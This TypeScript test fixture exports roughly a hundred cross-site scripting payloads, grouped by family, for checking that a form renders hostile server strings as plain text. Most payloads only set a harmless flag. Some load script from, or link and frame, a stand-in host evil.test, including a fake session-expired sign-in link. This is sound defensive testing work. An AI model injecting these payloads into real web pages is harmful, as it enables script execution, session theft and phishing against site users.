/**
 * T11: strings a hostile or broken server (or a careless `messages` override) may hand the form.
 * Every payload that could run script sets `window.__bpXss`; the tests check it stays unset and
 * that the form renders each string as text, adding no element.
 */
const FLAG = 'window.__bpXss=1';

const scriptTags = [
  `<script>${FLAG}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<script>${FLAG};alert(String.fromCharCode(88,83,83))</script>`,
  `<scr<script>ipt>${FLAG}</scr</script>ipt>`,
  `"><script>${FLAG}</script>`,
  `'><script>${FLAG}</script>`,
  `</p><script>${FLAG}</script><p>`,
  `</code></small><script>${FLAG}</script>`,
  `<script type="module">${FLAG}</script>`,
  `<script/xss src="data:text/javascript,${FLAG}"></script>`,
  `<<script>script>${FLAG}<</script>/script>`,
  `</textarea><script>${FLAG}</script>`,
  `</title><script>${FLAG}</script>`,
  `<script>/*</script><script>*/${FLAG}</script>`,
];

const images = [
  `<img src=x onerror="${FLAG}">`,
  `<img src=x onerror=${FLAG}>`,
  `<IMG SRC=x OnErRoR=${FLAG}>`,
  `<img src="x" onerror="&#119;indow.__bpXss=1">`,
  `<img src=javascript:${FLAG}>`,
  `<img/src=x/onerror=${FLAG}>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<img """><script>${FLAG}</script>">`,
  `<img src=\`x\` onerror=${FLAG}>`,
  `<picture><source srcset=x onerror=${FLAG}><img src=x></picture>`,
  `<img src=x onerror=&#x77;&#x69;&#x6e;&#x64;&#x6f;&#x77;.__bpXss=1>`,
  `<img src="https://evil.test/pixel.gif" width=1 height=1>`,
  `<image src=x onerror=${FLAG}>`,
];

const svgAndMath = [
  `<svg onload=${FLAG}>`,
  `<svg/onload=${FLAG}>`,
  `<svg><script>${FLAG}</script></svg>`,
  `<svg><animate onbegin=${FLAG} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${FLAG}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:${FLAG}"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=${FLAG}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${FLAG}>`,
  `<math href="javascript:${FLAG}">CLICKME</math>`,
];

const urls = [
  `javascript:${FLAG}`,
  `JaVaScRiPt:${FLAG}`,
  `<a href="javascript:${FLAG}">Sign in again</a>`,
  `<a href="jav&#x09;ascript:${FLAG}">x</a>`,
  `<a href=" &#14;  javascript:${FLAG}">x</a>`,
  `<iframe src="javascript:${FLAG}"></iframe>`,
  `<iframe srcdoc="<script>parent.__bpXss=1</script>"></iframe>`,
  `<form action="javascript:${FLAG}"><button>x</button></form>`,
  `<object data="javascript:${FLAG}"></object>`,
  `<embed src="javascript:${FLAG}">`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<a href="data:text/html,<script>${FLAG}</script>">x</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${FLAG}">`,
  `<a href=//evil.test/login>Your session expired, sign in here</a>`,
  `<iframe src=//evil.test></iframe>`,
  `<base href="javascript:/a/-alert(1)///////">`,
];

const handlers = [
  `<body onload=${FLAG}>`,
  `<div onmouseover="${FLAG}">hover</div>`,
  `<input autofocus onfocus=${FLAG}>`,
  `<select autofocus onfocus=${FLAG}>`,
  `<textarea autofocus onfocus=${FLAG}>`,
  `<details open ontoggle=${FLAG}>`,
  `<video><source onerror="${FLAG}">`,
  `<audio src=x onerror=${FLAG}>`,
  `<marquee onstart=${FLAG}>`,
  `<button form=x formaction=javascript:${FLAG}>x</button>`,
  `<isindex type=image src=1 onerror=${FLAG}>`,
  `<object onerror=${FLAG}>`,
  `<style onload=${FLAG}></style>`,
  `<link rel=stylesheet href=x onerror=${FLAG}>`,
  `<xss onafterscriptexecute=${FLAG}><script>1</script>`,
  `<body onpageshow=${FLAG}>`,
  `"onmouseover="${FLAG}`,
  `' onfocus='${FLAG}' autofocus='`,
  `<style>*{display:none}</style>`,
];

const entityTricks = [
  `&lt;script&gt;${FLAG}&lt;/script&gt;`,
  `&#60;img src=x onerror=${FLAG}&#62;`,
  `&#x3C;svg onload=${FLAG}&#x3E;`,
  `\\u003cscript\\u003e${FLAG}\\u003c/script\\u003e`,
  `%3Cscript%3Ewindow.__bpXss%3D1%3C%2Fscript%3E`,
  `&amp;lt;img src=x onerror=1&amp;gt;`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${FLAG}">x</a>`,
  `&lt;&#x69;mg src=x onerror=1&gt;`,
  `<!--<img src="--><img src=x onerror=${FLAG}//">`,
  `<![CDATA[<script>${FLAG}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${FLAG}>">`,
  `<template><img src=x onerror=${FLAG}></template>`,
  `<textarea></textarea><img src=x onerror=${FLAG}>`,
  `{{constructor.constructor('${FLAG}')()}}`,
  '${' + FLAG + '}',
  '{phone} {seconds} {country} {length}',
  '__proto__',
  `{"statusCode":200,"message":"Operation successful"}`,
];

const bidiAndControls = [
  '\u202Egnp.exe<img src=x onerror=1>',
  'Pay \u202E0001\u202C now',
  `\u2066<script>${FLAG}</script>\u2069`,
  '\u200F\u200E\u061C marks <b>bold</b>',
  'line1\nline2\r\n<script>x</script>',
  `\u0000<script>${FLAG}</script>`,
  '\t\v\f<img src=x onerror=1>',
  '\u0085\u009b<svg onload=1>',
  '\uFEFF<script>1</script>',
  '\uD800 lone surrogate <img src=x onerror=1>',
  '\u202E'.repeat(1000) + 'x',
  'Z̸̢̛͓a̷l̶g̵o̴ <i>text</i>',
];

const huge = [
  'A'.repeat(100_000),
  `<img src=x onerror=${FLAG}>`.repeat(3000),
  '<'.repeat(100_000),
  ' '.repeat(50_000) + '<script>1</script>',
  '🧨'.repeat(200),
  'x'.repeat(299) + '🧨' + 'y'.repeat(100),
];

/** About a hundred hostile strings, grouped by family. */
export const XSS_PAYLOADS: readonly string[] = [
  ...scriptTags,
  ...images,
  ...svgAndMath,
  ...urls,
  ...handlers,
  ...entityTricks,
  ...bidiAndControls,
  ...huge,
];

declare global {
  interface Window {
    __bpXss?: number;
  }
}
